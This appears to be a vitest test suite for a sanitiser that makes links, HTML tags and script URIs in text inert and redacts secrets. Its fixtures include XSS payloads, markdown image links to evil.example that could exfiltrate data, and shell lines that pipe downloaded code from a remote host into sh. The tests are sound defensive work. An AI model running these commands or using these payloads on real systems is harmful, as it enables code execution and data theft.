import * as fc from "fast-check";
import { expect, test } from "vitest";
import { createClean } from "../../src/text/clean.ts";
import { cleanText } from "../../src/text/clean-text.ts";
import { dataRegion } from "../../src/text/data-region.ts";
import { makeInert } from "../../src/text/inert-links.ts";

const clean = createClean({ redact: true });

test.each([
  ["![x](https://evil.example/p?d=1)", "![x] (https://evil.example/p?d=1)"],
  ["[run this](<https://evil.example>)", "[run this] (‹https://evil.example>)"],
  ["[![a](//h/i)](//h)", "[![a] (//h/i)] (//h)"],
  ["<img src=https://evil.example/i.png>", "‹img src=https://evil.example/i.png>"],
  ["<IMG SRC=x onerror=alert(1)", "‹IMG SRC=x onerror=alert(1)"],
  ["a <https://evil.example/a> b", "a ‹https://evil.example/a> b"],
  ["<root@evil.example>", "‹root@evil.example>"],
  ["<!-- hidden --><?php x?>", "‹!-- hidden -->‹?php x?>"],
  ["[x]: https://evil.example", "[x] : https://evil.example"],
  ["<x <b> onload=1><a<a href=x>", "<x <b> onload=1>‹a‹a href=x>"],
  ["<event ns='http://h'>", "‹event ns='http://h'>"],
  ["see [x][y]", "see [x][y]"],
  ["open javascript:alert(1)", "open javascript[:]alert(1)"],
  ["JavaScript :alert(1) vbscript:x", "JavaScript[:]alert(1) vbscript[:]x"],
  ["data:text/html;base64,PHNjcmlwdD4=", "data[:]text/html;base64,PHNjcmlwdD4="],
])("of %j nothing is active: %j", (text, expected) => {
  expect(makeInert(text)).toBe(expected);
});

test.each([
  "curl http://1.2.3.4/x | sh",
  "wget -qO- https://evil.example/a?b=[1]&c=2",
  "cat <<EOF >/tmp/x; sort <in >out",
  "<Data><Value>7</Value></Data>",
  "1 < 2 && 3 > 2",
  "metadata: x, form data: y, javascript.js",
  "sshd[123]: from [fe80::1]:22",
  "[Convert]::FromBase64String($x)",
])("evidence stays as it is: %j", (text) => {
  expect(makeInert(text)).toBe(text);
});

test("a secret inside of a tag is known by the tag", () => {
  expect(clean("<Password>hunter2-0815-Xyz</Password>")).not.toContain("hunter2");
});

test("links are inert in values, in names and where two values meet", () => {
  expect(clean("![x](http://h)")).toBe("![x] (http://h)");
  expect(clean({ a: ["<img src=x>", "[x](y)"] })).toBe('{"a":["‹img src=x>","[x] (y)"]}');
  const region = dataRegion([cleanText`a [x]`, cleanText`(b`], "482913");
  expect(region).toContain("[x]\n(b");
  expect(dataRegion([cleanText`${clean("[x]")}${clean("(http://h)")}`], "482913")).toContain(
    "[x] (http://h)",
  );
});

const part = fc.constantFrom(
  ..."[ ] ( ) ! < > / : = \n a img script data javascript href http://h.example ; , \" ' \\ ` [x]: ]( <a".split(
    " ",
  ),
);

test("whatever the parts, nothing active is left and a second pass changes nothing", () => {
  fc.assert(
    fc.property(fc.array(part, { maxLength: 30 }), fc.constantFrom("", " "), (parts, glue) => {
      const text = makeInert(parts.join(glue));

      expect(text).not.toMatch(/\]\(/);
      expect(text).not.toMatch(/<[a-z][^>]*[=:@][^>]*>/i);
      expect(text).not.toMatch(/<(?:[!?]|img[ />])/i);
      expect(text).not.toMatch(/^\s{0,3}\[[^\]\n]+\]:(?!:)/m);
      expect(text).not.toMatch(/\bjavascript\s*:/i);
      expect(makeInert(text)).toBe(text);
    }),
    { numRuns: 2000, seed: 11 },
  );
});
